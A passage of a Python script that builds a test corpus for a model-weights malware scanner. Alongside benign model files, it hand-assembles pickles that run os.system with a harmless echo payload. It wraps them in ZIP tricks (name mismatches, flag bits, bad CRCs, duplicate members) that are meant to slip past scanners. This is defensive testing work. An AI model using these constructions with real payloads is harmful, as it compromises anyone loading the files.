#!/usr/bin/env python3
"""Generate the malware-in-weights scanner fixture corpus.

Run:  /usr/bin/python3 scripts/gen_scan_fixtures.py

Writes test/fixtures/scan/{benign,malicious,invalid}/..., labels.json and README.md.
Output is deterministic: fixed seeds, fixed ZIP/tar timestamps, hand-written containers.

SAFETY
  * Every hostile file is assembled byte by byte (opcodes, struct, our own ZIP writer). The generator
    never unpickles, torch.loads, np.loads(allow_pickle) or otherwise evaluates a hostile file.
  * Payloads are harmless: `echo modelgate-test` and equivalents (a file under /tmp, 127.0.0.1:9).
  * Only the BENIGN files are loaded back, with the real libraries (torch.load(weights_only=True),
    np.load(allow_pickle=False), pickle.loads of plain data, onnx.checker), as a self-check.
  * pickletools.dis / genops are disassemblers (they never execute) and are used to check that the
    hand-assembled pickles are well formed where they are meant to be.
"""
from __future__ import annotations

import bz2
import codecs
import gzip
import hashlib
import io
import json
import lzma
import marshal
import os
import pickle
import pickletools
import random
import struct
import sys
import tarfile
import types
import zlib
from collections import OrderedDict
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "test" / "fixtures" / "scan"
CMD = "echo modelgate-test"
PYCMD = "__import__('os').system('echo modelgate-test')"

LABELS: list[dict] = []
SKIPPED: list[str] = []
WRITTEN: dict[str, bytes] = {}


def optional(mod: str):
    try:
        return __import__(mod)
    except Exception as e:  # noqa: BLE001
        SKIPPED.append(f"python module `{mod}` not importable here ({type(e).__name__}): {e}")
        return None


import numpy as np  # noqa: E402
import torch  # noqa: E402
import onnx  # noqa: E402
from onnx import helper, TensorProto  # noqa: E402

h5py = optional("h5py")
joblib = optional("joblib")
sklearn = optional("sklearn")
lz4 = optional("lz4")


def emit(rel: str, data: bytes, expect, technique, source: str, note: str) -> None:
    assert rel not in WRITTEN, rel
    assert len(data) < 100 * 1024, (rel, len(data))
    p = OUT / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data)
    WRITTEN[rel] = data
    LABELS.append({"path": rel, "expect": expect, "technique": technique, "source": source, "note": note})


# --------------------------------------------------------------------------------------------------
# Pickle assembler
# --------------------------------------------------------------------------------------------------
MARK, STOP, POP, POP_MARK, DUP = b"(", b".", b"0", b"1", b"2"
TUPLE, TUPLE1, TUPLE2, TUPLE3, EMPTY_TUPLE = b"t", b"\x85", b"\x86", b"\x87", b")"
REDUCE, BUILD, OBJ, NEWOBJ, NEWOBJ_EX, STACK_GLOBAL = b"R", b"b", b"o", b"\x81", b"\x92", b"\x93"
MEMOIZE, EMPTY_DICT, EMPTY_LIST, SETITEM, SETITEMS, APPEND = b"\x94", b"}", b"]", b"s", b"u", b"a"
NONE = b"N"


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def su(s: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE."""
    b = s.encode()
    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else (b"X" + struct.pack("<I", len(b)) + b)


def bu(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def sbytes(b: bytes) -> bytes:
    return (b"C" + bytes([len(b)]) + b) if len(b) < 256 else (b"B" + struct.pack("<I", len(b)) + b)


def g(mod: str, name: str) -> bytes:
    """GLOBAL (text, protocols 0-3; also valid in 4/5)."""
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def sg(mod: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4+, resolves dotted names)."""
    return su(mod) + su(name) + STACK_GLOBAL


def binput(i: int) -> bytes:
    return b"q" + bytes([i])


def binget(i: int) -> bytes:
    return b"h" + bytes([i])


def lit(v) -> bytes:
    """Opcodes pushing a plain-data literal (protocol 3 encoding, memo ops removed)."""
    raw = pickletools.optimize(pickle.dumps(v, protocol=3))
    assert raw[:2] == b"\x80\x03" and raw[-1:] == STOP
    assert not any(op.name.endswith("PUT") or op.name == "MEMOIZE" for op, _, _ in pickletools.genops(raw))
    return raw[2:-1]


def call(fn: bytes, *args) -> bytes:
    """fn(*args) with REDUCE; args are python literals or pre-built opcode bytes (wrapped in Raw)."""
    parts = [fn, MARK]
    for a in args:
        parts.append(a.b if isinstance(a, Raw) else lit(a))
    parts += [TUPLE, REDUCE]
    return b"".join(parts)


class Raw:
    def __init__(self, b: bytes):
        self.b = b


def wrap(body: bytes, p: int = 2) -> bytes:
    return proto(p) + body + STOP


def check_pickle(data: bytes, expect_ok: bool = True) -> None:
    """Disassemble (never execute) to verify a hand-assembled pickle is well formed."""
    try:
        pickletools.dis(data, out=io.StringIO())
        ok = True
    except Exception:  # noqa: BLE001
        ok = False
    if expect_ok and not ok:
        out = io.StringIO()
        try:
            pickletools.dis(data, out=out)
        except Exception as e:  # noqa: BLE001
            raise AssertionError(f"hand-assembled pickle does not disassemble: {e}\n{out.getvalue()}") from e


def payload_os_system(p: int = 2) -> bytes:
    return wrap(call(g("os", "system"), CMD), p)


# --------------------------------------------------------------------------------------------------
# ZIP writer (full control over both headers; fixed DOS timestamp 1980-01-01 00:00)
# --------------------------------------------------------------------------------------------------
DOS_TIME, DOS_DATE = 0, (0 << 9) | (1 << 5) | 1


def zip_build(entries: list[dict], break_cd: bool = False) -> bytes:
    """entries: name, data, [method 0|8], [flag], [local_flag], [local_name], [crc], [usize], [csize_override]"""
    out = bytearray()
    central = bytearray()
    for e in entries:
        name = e["name"].encode()
        lname = e.get("local_name", e["name"]).encode()
        data = e["data"]
        method = e.get("method", 0)
        if method == 8:
            co = zlib.compressobj(9, zlib.DEFLATED, -15)
            comp = co.compress(data) + co.flush()
        else:
            comp = data
        crc = e.get("crc", zlib.crc32(data) & 0xFFFFFFFF)
        usize = e.get("usize", len(data))
        flag = e.get("flag", 0)
        lflag = e.get("local_flag", flag)
        off = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, lflag, method, DOS_TIME, DOS_DATE, crc, len(comp), usize,
                           len(lname), 0) + lname + comp
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flag, method, DOS_TIME, DOS_DATE, crc,
                               len(comp), usize, len(name), 0, 0, 0, 0, 0, off) + name
    cd_off = len(out)
    out += central
    n = len(entries)
    eocd_off = cd_off + 7 if break_cd else cd_off
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(central), eocd_off, 0)
    return bytes(out)


def torch_zip(data_pkl: bytes, prefix: str = "archive", extra: list[dict] | None = None, **pkl_opts) -> bytes:
    ents = [dict(name=f"{prefix}/data.pkl", data=data_pkl, **pkl_opts)]
    ents += extra or []
    ents.append(dict(name=f"{prefix}/version", data=b"3\n"))
    return zip_build(ents)


def tar_build(members: list[tuple[str, bytes]], symlinks: list[tuple[str, str]] = ()) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime, ti.mode, ti.uid, ti.gid, ti.uname, ti.gname = len(data), 0, 0o644, 0, 0, "", ""
            tf.addfile(ti, io.BytesIO(data))
        for name, target in symlinks:
            ti = tarfile.TarInfo(name)
            ti.type, ti.linkname, ti.mtime, ti.mode, ti.uname, ti.gname = tarfile.SYMTYPE, target, 0, 0o777, "", ""
            tf.addfile(ti)
    return buf.getvalue()


# --------------------------------------------------------------------------------------------------
# joblib format mirror (joblib is not installed here: we reproduce joblib.numpy_pickle.NumpyPickler.save)
# --------------------------------------------------------------------------------------------------
def _install_fake_joblib():
    """Registers `joblib.numpy_pickle.NumpyArrayWrapper` in THIS process only, so that the stdlib
    pickler emits the exact global joblib would. The class body mirrors joblib's attributes."""
    if "joblib" in sys.modules and joblib is not None:
        return sys.modules["joblib.numpy_pickle"].NumpyArrayWrapper
    pkg = types.ModuleType("joblib")
    mod = types.ModuleType("joblib.numpy_pickle")

    class NumpyArrayWrapper:  # mirror of joblib.numpy_pickle.NumpyArrayWrapper.__init__
        def __init__(self, subclass, shape, order, dtype, allow_mmap=False, numpy_array_alignment_bytes=16):
            self.subclass = subclass
            self.shape = shape
            self.order = order
            self.dtype = dtype
            self.allow_mmap = allow_mmap
            self.numpy_array_alignment_bytes = numpy_array_alignment_bytes

    NumpyArrayWrapper.__module__ = "joblib.numpy_pickle"
    NumpyArrayWrapper.__qualname__ = "NumpyArrayWrapper"
    mod.NumpyArrayWrapper = NumpyArrayWrapper
    pkg.numpy_pickle = mod
    sys.modules["joblib"] = pkg
    sys.modules["joblib.numpy_pickle"] = mod
    return NumpyArrayWrapper


class JoblibLikePickler(pickle._Pickler):  # type: ignore[misc]
    """Mirror of joblib.numpy_pickle.NumpyPickler.save / NumpyArrayWrapper.write_array (joblib >= 1.2)."""

    def __init__(self, fp, protocol=None):
        super().__init__(fp, protocol=pickle.DEFAULT_PROTOCOL if protocol is None else protocol)
        self.file_handle = fp
        self.W = _install_fake_joblib()

    def save(self, obj, save_persistent_id=True):
        if type(obj) is np.ndarray:
            order = "F" if (obj.flags.f_contiguous and not obj.flags.c_contiguous) else "C"
            wrapper = self.W(type(obj), obj.shape, order, obj.dtype, allow_mmap=not obj.dtype.hasobject)
            pickle._Pickler.save(self, wrapper)
            if self.proto >= 4:
                self.framer.commit_frame(force=True)
            if obj.dtype.hasobject:
                pickle.dump(obj, self.file_handle, protocol=2)
            else:
                pos = self.file_handle.tell() + 1
                pad = 16 - (pos % 16)
                self.file_handle.write(bytes([pad]))
                if pad:
                    self.file_handle.write(b"\xff" * pad)
                self.file_handle.write(obj.tobytes("C" if order == "C" else "F"))
            return
        return pickle._Pickler.save(self, obj, save_persistent_id)


def joblib_like_dump(value, protocol=None) -> bytes:
    f = io.BytesIO()
    JoblibLikePickler(f, protocol).dump(value)
    return f.getvalue()


class _EvilReduce:
    """Pickled BY REFERENCE only (the pickler writes `posix system` + args; nothing is called)."""

    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def joblib_like_check(data: bytes):
    """Self-check of the BENIGN joblib-like files: a restricted mirror of joblib's NumpyUnpickler."""
    W = _install_fake_joblib()
    allowed = {("joblib.numpy_pickle", "NumpyArrayWrapper"), ("numpy", "ndarray"), ("numpy", "dtype"),
               ("numpy.core.multiarray", "_reconstruct"), ("builtins", "dict"), ("collections", "OrderedDict")}

    class U(pickle._Unpickler):  # type: ignore[misc]
        dispatch = pickle._Unpickler.dispatch.copy()

        def find_class(self, module, name):
            if (module, name) not in allowed:
                raise pickle.UnpicklingError(f"self-check refused {module}.{name}")
            return super().find_class(module, name)

        def load_build(self):
            pickle._Unpickler.load_build(self)
            if isinstance(self.stack[-1], W):
                w = self.stack.pop()
                pad = self.read(1)[0]
                if pad:
                    self.read(pad)
                n = int(np.prod(w.shape)) if len(w.shape) else 1
                arr = np.frombuffer(self.read(n * w.dtype.itemsize), dtype=w.dtype).reshape(w.shape)
                self.stack.append(arr)

        dispatch[pickle.BUILD[0]] = load_build

    return U(io.BytesIO(data)).load()


# --------------------------------------------------------------------------------------------------
# LZ4 frame with uncompressed blocks (valid lz4 frame without the lz4 module)
# --------------------------------------------------------------------------------------------------
def xxh32(data: bytes, seed: int = 0) -> int:
    P1, P2, P3, P4, P5 = 2654435761, 2246822519, 3266489917, 668265263, 374761393
    M = 0xFFFFFFFF
    rotl = lambda x, r: ((x << r) | (x >> (32 - r))) & M  # noqa: E731
    n, i = len(data), 0
    if n >= 16:
        v = [(seed + P1 + P2) & M, (seed + P2) & M, seed & M, (seed - P1) & M]
        while i + 16 <= n:
            for k in range(4):
                lane = struct.unpack_from("<I", data, i + 4 * k)[0]
                v[k] = (rotl((v[k] + lane * P2) & M, 13) * P1) & M
            i += 16
        h = (rotl(v[0], 1) + rotl(v[1], 7) + rotl(v[2], 12) + rotl(v[3], 18)) & M
    else:
        h = (seed + P5) & M
    h = (h + n) & M
    while i + 4 <= n:
        h = (rotl((h + struct.unpack_from("<I", data, i)[0] * P3) & M, 17) * P4) & M
        i += 4
    while i < n:
        h = (rotl((h + data[i] * P5) & M, 11) * P1) & M
        i += 1
    h ^= h >> 15
    h = (h * P2) & M
    h ^= h >> 13
    h = (h * P3) & M
    h ^= h >> 16
    return h


assert xxh32(b"") == 0x02CC5D05 and xxh32(b"a") == 0x550D7456


def lz4_frame_stored(data: bytes) -> bytes:
    flg, bd = 0b01100000, 0b01110000  # version 01, block independence; max block 4 MB
    hc = (xxh32(bytes([flg, bd])) >> 8) & 0xFF
    out = struct.pack("<I", 0x184D2204) + bytes([flg, bd, hc])
    out += struct.pack("<I", len(data) | 0x80000000) + data  # high bit: block stored uncompressed
    return out + struct.pack("<I", 0)


# --------------------------------------------------------------------------------------------------
# safetensors / GGUF / npy writers
# --------------------------------------------------------------------------------------------------
def st_build(header: dict | str, data: bytes, hlen_override: int | None = None) -> bytes:
    h = header if isinstance(header, str) else json.dumps(header, separators=(",", ":"))
    hb = h.encode()
    hb += b" " * ((8 - len(hb) % 8) % 8)
    return struct.pack("<Q", hlen_override if hlen_override is not None else len(hb)) + hb + data


def st_from_arrays(arrays: list[tuple[str, np.ndarray]], metadata: dict | None = None) -> bytes:
    dt = {np.float32: "F32", np.int64: "I64", np.float16: "F16", np.int32: "I32", np.uint8: "U8"}
    header: dict = {}
    if metadata is not None:
        header["__metadata__"] = metadata
    data = b""
    for name, a in arrays:
        b = a.tobytes()
        header[name] = {"dtype": dt[a.dtype.type], "shape": list(a.shape), "data_offsets": [len(data), len(data) + len(b)]}
        data += b
    return st_build(header, data)


GGUF_T = dict(U8=0, I8=1, U16=2, I16=3, U32=4, I32=5, F32=6, BOOL=7, STR=8, ARR=9, U64=10, I64=11, F64=12)


def gstr(s) -> bytes:
    b = s.encode() if isinstance(s, str) else s
    return struct.pack("<Q", len(b)) + b


def gval(t: str, v) -> bytes:
    if t == "STR":
        return gstr(v)
    if t == "ARR":
        et, items = v
        return struct.pack("<IQ", GGUF_T[et], len(items)) + b"".join(gval(et, x) for x in items)
    fmt = {"U8": "B", "I8": "b", "U16": "H", "I16": "h", "U32": "I", "I32": "i", "F32": "f", "BOOL": "?",
           "U64": "Q", "I64": "q", "F64": "d"}[t]
    return struct.pack("<" + fmt, v)


def gguf_build(kvs: list[tuple[str, str, object]], tensors: list[tuple[str, list[int], int, bytes]],
               version: int = 3, alignment: int = 32, n_tensors: int | None = None, n_kv: int | None = None,
               offsets: list[int] | None = None, raw_kv: bytes | None = None) -> bytes:
    out = b"GGUF" + struct.pack("<I", version)
    out += struct.pack("<QQ", len(tensors) if n_tensors is None else n_tensors, len(kvs) if n_kv is None else n_kv)
    for k, t, v in kvs:
        out += gstr(k) + struct.pack("<I", GGUF_T[t]) + gval(t, v)
    if raw_kv:
        out += raw_kv
    data = b""
    offs = []
    for name, dims, gtype, blob in tensors:
        data += b"\0" * ((-len(data)) % alignment)
        offs.append(len(data))
        data += blob
    for i, (name, dims, gtype, blob) in enumerate(tensors):
        off = offsets[i] if offsets else offs[i]
        out += gstr(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims)
        out += struct.pack("<IQ", gtype, off)
    out += b"\0" * ((-len(out)) % alignment)
    return out + data


def npy_header(descr: str, shape: tuple, fortran: bool = False) -> bytes:
    d = "{'descr': %r, 'fortran_order': %s, 'shape': %r, }" % (descr, fortran, shape)
    total = 10 + len(d) + 1
    d += " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(d)) + d.encode("latin1")


# ==================================================================================================
# BENIGN
# ==================================================================================================
def gen_benign() -> None:
    torch.manual_seed(0)
    sd = OrderedDict([("fc1.weight", torch.randn(8, 4)), ("fc1.bias", torch.zeros(8)),
                      ("fc2.weight", torch.randn(2, 8)), ("fc2.bias", torch.zeros(2)),
                      ("bn.num_batches_tracked", torch.tensor(3, dtype=torch.int64))])
    b = io.BytesIO()
    torch.save(sd, b)
    emit("benign/torch-state-dict-zip.pt", b.getvalue(), "benign", None, "torch.save (zip format)",
         "Real torch.save of a small state_dict (OrderedDict of tensors), zip format.")

    flat = torch.randn(58)
    sd_legacy = OrderedDict([("fc1.weight", flat[:32].view(8, 4)), ("fc1.bias", flat[32:40]),
                             ("fc2.weight", flat[40:56].view(2, 8)), ("fc2.bias", flat[56:58])])
    b = io.BytesIO()
    torch.save(sd_legacy, b, _use_new_zipfile_serialization=False)
    emit("benign/torch-state-dict-legacy.pt", _det_legacy(b.getvalue()), "benign", None,
         "torch.save _use_new_zipfile_serialization=False",
         "Real legacy torch.save (magic/protocol/sys_info/data/keys pickles + raw storage); the four tensors "
         "are views of one storage so that the storage key (a memory address) can be rewritten to '0' for "
         "determinism. Loads with torch.load(weights_only=True).")

    ckpt = {
        "epoch": 3,
        "model": sd,
        "optimizer": {"state": {0: {"step": torch.tensor(10.0), "exp_avg": torch.zeros(8, 4)}},
                      "param_groups": [{"lr": 1e-3, "betas": (0.9, 0.999), "eps": 1e-8, "weight_decay": 0.0,
                                        "amsgrad": False, "params": [0, 1, 2, 3]}]},
        "meta": OrderedDict([("name", "tiny"), ("tags", ["a", "b"]), ("ratio", 0.5), ("ok", True), ("none", None)]),
        "half": torch.arange(6, dtype=torch.float16).reshape(2, 3),
        "view": sd["fc1.weight"][1:3],  # shares storage with model.fc1.weight
    }
    b = io.BytesIO()
    torch.save(ckpt, b)
    emit("benign/torch-checkpoint-optimizer.pth", b.getvalue(), "benign", None, "torch.save (zip format)",
         "Training checkpoint: nested dicts, optimizer-like state, OrderedDict, tuples, float16, a view "
         "sharing storage.")

    b = io.BytesIO()
    torch.save(sd, b)
    emit("benign/torch-state-dict-named.bin", b.getvalue(), "benign", None, "torch.save",
         "Same zip checkpoint as pytorch_model.bin-style name (routing by content).")

    a32 = np.arange(12, dtype=np.float32).reshape(3, 4) / 7
    a64 = np.arange(10, dtype=np.int64) * 3
    for name, a in (("numpy-float32.npy", a32), ("numpy-int64.npy", a64)):
        b = io.BytesIO()
        np.save(b, a)
        emit(f"benign/{name}", b.getvalue(), "benign", None, "numpy.save", f"np.save of a {a.dtype} array.")
    b = io.BytesIO()
    np.save(b, np.asfortranarray(a32))
    emit("benign/numpy-fortran-order.npy", b.getvalue(), "benign", None, "numpy.save", "Fortran-order float32.")
    emit("benign/numpy-arrays.npz", _det_npz(lambda f: np.savez(f, weights=a32, ids=a64)), "benign", None,
         "numpy.savez", "np.savez with two members (timestamps normalised to 1980-01-01).")
    emit("benign/numpy-compressed.npz", _det_npz(lambda f: np.savez_compressed(f, w=a32)), "benign", None,
         "numpy.savez_compressed", "Deflated npz member (timestamps normalised).")

    plain = {"name": "tiny", "layers": [4, 8, 2], "pair": (1, 2.5), "flags": {True, False}, "raw": b"\x00\x01",
             "nested": {"a": [None, -1, 2 ** 70, 3.25]}, "text": "héllo"}
    for p in range(0, 6):
        emit(f"benign/pickle-plain-p{p}.pkl", pickle.dumps(plain, protocol=p), "benign", None,
             f"pickle.dumps protocol {p}",
             f"Plain data (dict/list/tuple/set/bytes/float/big int/str) at protocol {p}"
             + (" (no PROTO opcode; set/bytes via builtins.set and _codecs.encode)" if p < 2 else
                " (set via builtins.set, bytes via _codecs.encode)" if p == 2 else "") + ".")
    emit("benign/pickle-p5-bytearray.pkl", pickle.dumps({"buf": bytearray(b"abc"), "f": frozenset([1])}, protocol=5),
         "benign", None, "pickle.dumps protocol 5", "BYTEARRAY8 and FROZENSET opcodes.")

    # joblib
    jl_note = ("joblib IS installed: made with joblib.dump" if joblib else
               "joblib is NOT installed: made by this script's mirror of joblib.numpy_pickle.NumpyPickler "
               "(NumpyArrayWrapper + BUILD, padding byte, 0xff padding, raw array bytes, pickle continues)")
    emit("benign/joblib-numpy-array.joblib", _joblib_bytes(a32), "benign", None, "joblib.dump format", jl_note)
    emit("benign/joblib-dict-arrays.pkl", _joblib_bytes({"coef": a32, "classes": np.arange(3), "n_iter": 7}),
         "benign", None, "joblib.dump format", jl_note + "; two arrays mid-stream inside a dict.")
    emit("benign/joblib-numpy-zlib.joblib.z", zlib.compress(_joblib_bytes(a32), 3), "benign", None,
         "joblib.dump compress=('zlib',3)", "zlib-wrapped joblib stream. " + jl_note)
    if sklearn and joblib:
        from sklearn.linear_model import LogisticRegression  # pragma: no cover
        m = LogisticRegression().fit(np.array([[0.0], [1.0], [2.0], [3.0]]), [0, 0, 1, 1])
        f = io.BytesIO()
        joblib.dump(m, f)
        emit("benign/sklearn-logreg.joblib", f.getvalue(), "benign", None, "joblib.dump(sklearn model)",
             "Real sklearn LogisticRegression.")

    # safetensors (hand-written, reference format)
    st = st_from_arrays([("fc1.bias", np.zeros(8, np.float32)), ("fc1.weight", a32), ("ids", a64)], {"format": "pt"})
    emit("benign/model.safetensors", st, "benign", None, "safetensors format",
         "Hand-written: u64 header length + JSON (sorted contiguous offsets, __metadata__) padded to 8, data.")
    emit("benign/safetensors-named.pt", st, "benign", None, "safetensors format",
         "Same safetensors bytes under a .pt name (routing by content, not extension).")

    # ONNX
    class Tiny(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.fc = torch.nn.Linear(4, 2)

        def forward(self, x):
            return torch.relu(self.fc(x))

    torch.manual_seed(0)
    b = io.BytesIO()
    torch.onnx.export(Tiny().eval(), torch.zeros(1, 4), b, opset_version=13, input_names=["x"], output_names=["y"])
    emit("benign/tiny.onnx", b.getvalue(), "benign", None, "torch.onnx.export", "Linear+ReLU, opset 13.")

    # GGUF v3
    tmpl = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
            "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")
    w = np.arange(16, dtype=np.float32).reshape(4, 4)
    gg = gguf_build([("general.architecture", "STR", "llama"), ("general.name", "STR", "modelgate-tiny"),
                     ("general.alignment", "U32", 32), ("llama.context_length", "U32", 128),
                     ("tokenizer.ggml.tokens", "ARR", ("STR", ["<s>", "</s>", "a"])),
                     ("tokenizer.chat_template", "STR", tmpl)],
                    [("token_embd.weight", [4, 4], 0, w.tobytes()), ("output_norm.weight", [4], 0, np.ones(4, np.float32).tobytes())])
    emit("benign/tiny-v3.gguf", gg, "benign", None, "GGUF v3 spec (ggml docs/gguf.md)",
         "Hand-written: KV pairs (string, u32, string array, ChatML chat template), two F32 tensors, 32-aligned.")

    # Keras
    cfg = keras_seq([dense("dense", 8, "relu"), dense("dense_1", 2, "softmax")])
    emit("benign/keras-config.json", json.dumps(cfg, indent=1).encode(), ["benign", "unverified"], None,
         "Keras v3 config.json",
         "Bare Keras-3 config.json (InputLayer/Dense only). A scanner that does not recognise a standalone "
         "Keras config may call it unverified; it must never be worse.")
    if h5py:  # pragma: no cover
        SKIPPED.append("h5py present but .keras weights writer not implemented")
    weights_placeholder = b"not-hdf5: model.weights.h5 placeholder (h5py not installed when generated)\n"
    emit("benign/keras-v3-model.keras",
         zip_build([dict(name="metadata.json", data=json.dumps(KERAS_META).encode()),
                    dict(name="config.json", data=json.dumps(cfg).encode(), method=8),
                    dict(name="model.weights.h5", data=weights_placeholder)]),
         "invalid", None, "Keras v3 .keras",
         "config.json + metadata.json are a normal Sequential model; model.weights.h5 is a text PLACEHOLDER "
         "(h5py not installed), not HDF5. Keras opens that member with h5py by name and would refuse it, so the "
         "archive is invalid, never benign; .keras files with real weights are in test/fixtures/formats/keras/.")


def _det_legacy(data: bytes) -> bytes:
    """Rewrite legacy torch storage keys (memory addresses) to '0','1',… (benign file, self-made)."""
    f = io.BytesIO(data)
    for _ in range(4):  # skip magic, protocol, sys_info, state dict with the disassembler (no loading)
        for _op in pickletools.genops(f):
            pass
    pos = f.tell()
    # the key list is plain strings: parse with a refusing find_class
    class NoGlobals(pickle.Unpickler):
        def find_class(self, m, n):
            raise pickle.UnpicklingError("unexpected global")
    keys = NoGlobals(io.BytesIO(data[pos:])).load()
    for i, k in enumerate(keys):
        old = b"X" + struct.pack("<I", len(k)) + k.encode()
        new = b"X" + struct.pack("<I", len(str(i))) + str(i).encode()
        data = data.replace(old, new)
    return data


def _det_npz(writer) -> bytes:
    import zipfile
    src = io.BytesIO()
    writer(src)
    dst = io.BytesIO()
    with zipfile.ZipFile(src) as zi, zipfile.ZipFile(dst, "w") as zo:
        for info in zi.infolist():
            ni = zipfile.ZipInfo(info.filename, date_time=(1980, 1, 1, 0, 0, 0))
            ni.compress_type = info.compress_type
            zo.writestr(ni, zi.read(info.filename))
    return dst.getvalue()


def _joblib_bytes(value) -> bytes:
    if joblib:  # pragma: no cover - not installed in this environment
        f = io.BytesIO()
        joblib.dump(value, f)
        return f.getvalue()
    return joblib_like_dump(value)


KERAS_META = {"keras_version": "3.3.3", "date_saved": "2024-01-01@00:00:00"}


def dense(name, units, act):
    return {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
            "config": {"name": name, "trainable": True, "dtype": "float32", "units": units, "activation": act,
                       "use_bias": True,
                       "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform",
                                              "config": {"seed": None}, "registered_name": None},
                       "bias_initializer": {"module": "keras.initializers", "class_name": "Zeros", "config": {},
                                            "registered_name": None},
                       "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None,
                       "bias_constraint": None}}


def keras_seq(layers, name="sequential"):
    inp = {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
           "config": {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "input_layer"}}
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": name, "trainable": True, "dtype": "float32", "layers": [inp] + layers},
            "build_config": {"input_shape": [None, 4]}, "compile_config": None}


# ==================================================================================================
# MALICIOUS (and suspicious)
# ==================================================================================================
M = "malicious"
MS = ["malicious", "suspicious"]


def mal(rel, data, technique, source, note, expect=M):
    emit("malicious/" + rel, data, expect, technique, source, note)


def gen_malicious() -> None:
    P2 = payload_os_system(2)
    check_pickle(P2)

    # ---- 1. raw pickle under odd extension / ignored zip member
    mal("t01-raw-pickle-odd-ext.weights", P2, 1, "CVE-2025-1889",
        "Raw protocol-2 pickle, os.system, under a non-standard extension.")
    mal("t01-raw-pickle-named.npy", P2, 1, "CVE-2025-1889",
        "Raw pickle (not NumPy format) named .npy, which picklescan's directory mode skips.")
    mal("t01-zip-member-odd-name.zip", zip_build([dict(name="model/weights.dat2", data=P2)]), 1, "CVE-2025-1889",
        "ZIP whose only member is a pickle with an extension routers ignore.")

    # ---- 2. protocol 0/1 pickles, no PROTO, odd names
    p0 = b"cos\nsystem\n(V" + CMD.encode() + b"\ntR."
    check_pickle(p0)
    p1 = g("posix", "system") + b"q\x00(" + bu(CMD) + b"q\x01tq\x02R."
    check_pickle(p1)
    mal("t02-proto0-zip-member.pt", torch_zip(p0, extra=[dict(name="archive/extra/.meta", data=p0)]), 2,
        "picklescan 1.0.5 (research §4.2)",
        "Torch-style zip; data.pkl and an oddly named member hold a protocol-0 pickle (no \\x80 magic).")
    mal("t02-proto1-zip-member.zip", zip_build([dict(name="state/blob", data=p1)]), 2,
        "picklescan 1.0.5 (research §4.2)", "Protocol-1 (binary, no PROTO) pickle in a member named 'state/blob'.")
    mal("t02-proto0-raw.cfg", p0, 2, "picklescan 1.0.5 (research §4.2)", "Protocol-0 text pickle named .cfg.")
    mal("t02-proto1-raw.txt", p1, 2, "picklescan 1.0.5 (research §4.2)", "Protocol-1 pickle named .txt.")

    # ---- 3. local/central name mismatch
    z = zip_build([dict(name="archive/data.pkl", local_name="archive/data.pkx", data=P2),
                   dict(name="archive/version", data=b"3\n")])
    mal("t03-zip-name-mismatch.pt", z, 3, "CVE-2025-1944",
        "Central directory says archive/data.pkl, local header says archive/data.pkx; member is os.system pickle.")

    # ---- 4. flag bits
    for bit in (0x1, 0x20, 0x40):
        mal(f"t04-zip-flag-{bit:#04x}.pt", torch_zip(P2, flag=bit), 4, "CVE-2025-1945 / GHSA-w8jq-xcqf-f792",
            f"General-purpose flag {bit:#x} set in both headers of a cleartext stored data.pkl (os.system).")
    mal("t04-zip-flag-local-only.pt", torch_zip(P2, flag=0, local_flag=0x1), 4, "CVE-2025-1945",
        "Encryption flag 0x1 only in the LOCAL header (torch still loads); central directory clean.")

    # ---- 5. bad CRC
    mal("t05-zip-bad-crc.pt", torch_zip(P2, crc=0xDEADBEEF), 5, "CVE-2025-10156",
        "data.pkl with a wrong CRC-32 (torch does not check it); os.system payload.")

    # ---- 6. duplicate member names
    benign_pkl = pickle.dumps({"w": [1.0, 2.0]}, protocol=2)
    z = zip_build([dict(name="archive/data.pkl", data=P2), dict(name="archive/data.pkl", data=benign_pkl),
                   dict(name="archive/version", data=b"3\n")])
    mal("t06-zip-duplicate-names.pt", z, 6, "research §4.6 (own construction)",
        "Two central entries named archive/data.pkl: FIRST is os.system, second is benign (name-keyed readers see "
        "the benign one).")

    # ---- 7. 7z
    broken = P2[:-1] + b"\xff\xfe"  # payload then a broken tail, like nullifAI
    body = broken
    start_hdr = struct.pack("<QQI", len(body), 6, zlib.crc32(b"\x01\x04\x06\x00\x01\x09") & 0xFFFFFFFF)
    sevenz = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start_hdr) & 0xFFFFFFFF) + start_hdr
    sevenz += body + b"\x01\x04\x06\x00\x01\x09"
    seven_note = ("7z signature header (correct start-header CRC) followed by a stored, broken pickle and a stub "
                  "header: not decodable as a real 7z. A scanner without a 7z decoder must say 'could not verify'; "
                  "one that finds the stored pickle may say malicious. Never benign.")
    mal("t07-7z-archive.7z", sevenz, 7, "nullifAI (ReversingLabs 2025), picklescan #35", seven_note,
        expect=["unverified", "malicious"])
    mal("t07-7z-named.pt", sevenz, 7, "nullifAI (ReversingLabs 2025)", seven_note + " Named .pt.",
